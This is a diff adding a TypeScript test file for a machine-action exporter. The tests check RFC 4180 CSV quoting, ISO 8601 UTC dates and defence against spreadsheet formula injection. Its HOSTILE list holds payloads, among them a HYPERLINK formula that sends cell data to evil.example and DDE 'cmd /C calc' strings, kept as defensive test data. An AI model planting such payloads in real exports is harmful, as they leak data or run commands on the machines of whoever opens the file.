@@ -1,0 +1,142 @@
+// The export formatter: every field, ISO 8601 UTC dates, RFC 4180 CSV that a spreadsheet cannot execute.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { CSV_COLUMNS, csvCell, exportActions, exportFileName, isoUtc, toExportRecord } from '../../src/actions/exportActions';
+import { MachineAction, parseMachineAction } from '../../src/defender/machineAction';
+import { seedActions } from '../simulators/seedActions';
+
+/** An RFC 4180 reader, independent of the writer: fields, quotes doubled inside quoted fields, CRLF records. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') {
+        quoted = false;
+      } else {
+        field += c;
+      }
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, field]);
+      row = [];
+      field = '';
+      i++;
+    } else {
+      field += c;
+    }
+  }
+  assert.equal(field + row.join(''), '', 'the text ends with CRLF');
+  return rows;
+}
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '\tplain after a tab',
+  '\rplain after a carriage return',
+  'line one\r\nline two, with "quotes"',
+];
+
+function action(overrides: Record<string, unknown>): MachineAction {
+  const base = seedActions(new Date('2026-11-29T08:00:00Z')).find((a) => a.type === 'LiveResponse' && a.status === 'Succeeded');
+  assert.ok(base);
+  return parseMachineAction({ ...structuredClone(base), ...overrides });
+}
+
+describe('csvCell', () => {
+  it('neutralises every cell a spreadsheet would run as a formula, and keeps its text after the apostrophe', () => {
+    for (const value of HOSTILE.slice(0, -1)) {
+      const [[cell]] = parseCsv(`${csvCell(value)}\r\n`);
+      assert.equal(cell, `'${value}`, JSON.stringify(value));
+    }
+  });
+
+  it('quotes per RFC 4180 and leaves plain values and numbers alone', () => {
+    assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
+    assert.equal(csvCell('two\nlines'), '"two\nlines"');
+    assert.equal(csvCell('plain'), 'plain');
+    assert.equal(csvCell(-2147024894), '-2147024894');
+    assert.equal(csvCell('+1.5'), '+1.5');
+    assert.equal(csvCell(null), '');
+    assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
+  });
+});
+
+describe('isoUtc', () => {
+  it('writes service date-times as ISO 8601 UTC, keeping their digits, and keeps text that is not a date', () => {
+    assert.equal(isoUtc('2026-11-23T08:00:00.1234567Z'), '2026-11-23T08:00:00.1234567Z');
+    assert.equal(isoUtc('2026-11-23T08:00:00'), '2026-11-23T08:00:00Z', 'no zone means UTC');
+    assert.equal(isoUtc('2026-11-23 08:00'), '2026-11-23T08:00:00Z');
+    assert.equal(isoUtc('2026-11-23T10:30:00.5+02:00'), '2026-11-23T08:30:00.500Z');
+    assert.equal(isoUtc('yesterday'), 'yesterday');
+    assert.equal(isoUtc(null), null);
+  });
+});
+
+describe('exportActions', () => {
+  it('writes a header of every field and one CRLF row per action, in the order given, that reads back to the same values', () => {
+    const actions = seedActions(new Date('2026-11-29T08:00:00Z')).slice(0, 20).map((raw) => parseMachineAction(raw));
+    const rows = parseCsv(exportActions(actions, 'csv'));
+    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
+    assert.equal(rows.length, actions.length + 1);
+    assert.deepEqual(rows.slice(1).map((r) => r[0]), actions.map((a) => a.id));
+    for (const [i, a] of actions.entries()) {
+      const row = Object.fromEntries(CSV_COLUMNS.map((column, c) => [column, rows[i + 1][c]]));
+      assert.equal(row.requestorComment.replace(/^'/, ''), a.requestorComment ?? '');
+      assert.equal(row.lastUpdateDateTimeUtc, a.lastUpdateDateTimeUtc, 'both spellings of the field land in one column');
+      assert.equal(row.externalId, a.externalId ?? '');
+      assert.equal(row.errorHResult, String(a.errorHResult));
+      assert.equal(row['relatedFileInfo.fileIdentifier'], a.relatedFileInfo?.fileIdentifier ?? '');
+      assert.deepEqual(row.commands ? JSON.parse(row.commands) : [], a.commands);
+    }
+  });
+
+  it('neutralises hostile text in every free-text field of an action', () => {
+    const fields = ['requestorComment', 'cancellationComment', 'title', 'requestor', 'computerDnsName', 'externalId', 'troubleshootInfo'];
+    for (const value of HOSTILE) {
+      const hostile = action(Object.fromEntries(fields.map((f) => [f, value])));
+      const [, row] = parseCsv(exportActions([hostile], 'csv'));
+      for (const field of fields) {
+        const cell = row[CSV_COLUMNS.indexOf(field as (typeof CSV_COLUMNS)[number])];
+        assert.ok(!/^\s*[=+\-@]/.test(cell) && !/^[\t\r]/.test(cell), `${field} = ${JSON.stringify(cell)} could run as a formula`);
+        assert.equal(cell.replace(/^'/, ''), value, `${field} keeps its text`);
+      }
+    }
+  });
+
+  it('writes JSON with every field of the entity, dates in ISO 8601 UTC, and the values untouched', () => {
+    const a = action({ requestorComment: HOSTILE[0], creationDateTimeUtc: '2026-11-23T08:00:00.12', troubleshootInfo: { log: 'x' } });
+    const [record] = JSON.parse(exportActions([a], 'json'));
+    assert.deepEqual(Object.keys(record).sort(), Object.keys(toExportRecord(a)).sort());
+    assert.deepEqual(Object.keys(record).sort(), Object.keys(a).filter((k) => k !== 'raw').sort(), 'every field of the entity');
+    assert.equal(record.requestorComment, HOSTILE[0]);
+    assert.equal(record.creationDateTimeUtc, '2026-11-23T08:00:00.12Z');
+    assert.match(record.commands[0].startTime, /Z$/);
+    assert.deepEqual(record.troubleshootInfo, { log: 'x' });
+  });
+
+  it('writes an empty list as a header only (CSV) or [] (JSON)', () => {
+    assert.equal(exportActions([], 'csv'), `${CSV_COLUMNS.join(',')}\r\n`);
+    assert.deepEqual(JSON.parse(exportActions([], 'json')), []);
+  });
+
+  it('suggests a file name with the UTC time', () => {
+    assert.equal(exportFileName(new Date('2026-11-29T08:05:31Z'), 'csv'), 'machine-actions-2026-11-29T0805Z.csv');
+  });
+});
